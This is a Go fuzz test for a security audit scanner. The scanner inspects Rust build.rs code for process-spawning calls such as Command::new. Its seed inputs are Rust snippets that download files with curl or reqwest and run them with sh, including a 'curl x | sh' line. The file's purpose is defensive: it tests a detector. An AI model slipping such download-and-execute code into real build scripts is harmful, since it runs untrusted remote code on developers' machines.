package audit

import (
	"strings"
	"testing"
)

// FuzzScanRustExec: no Rust text stops the audit (the Command::new
// builder reader, its chained and bound .arg/.args calls, rustWord).
func FuzzScanRustExec(f *testing.F) {
	for _, s := range []string{
		"let d = Command::new(\"curl\").args([\"-o\", &f, u]).status();\nCommand::new(\"sh\").arg(&f).status();",
		"let mut c = std::process::Command::new(\"sh\");\nc.arg(\"-c\").arg(\"curl x | sh\");\nc.status();",
		"Command::new(\"x\").args(&vec![\"\\\"\", 'a', (1,2)]).env(\"A\", b).arg(p.as_str())",
		"Command::new(" + strings.Repeat(".arg(", 100),
		"let mut c = Command::new(\"a\"); c.arg(",
		"let r = reqwest::blocking::get(u)?; let b = r.bytes()?; fs::write(&p, &b)?; let mut f = File::create(q)?; io::copy(&mut r, &mut f)?; Command::new(\"sh\").arg(&p);",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanRustExec(sc, "build.rs", code)
	})
}
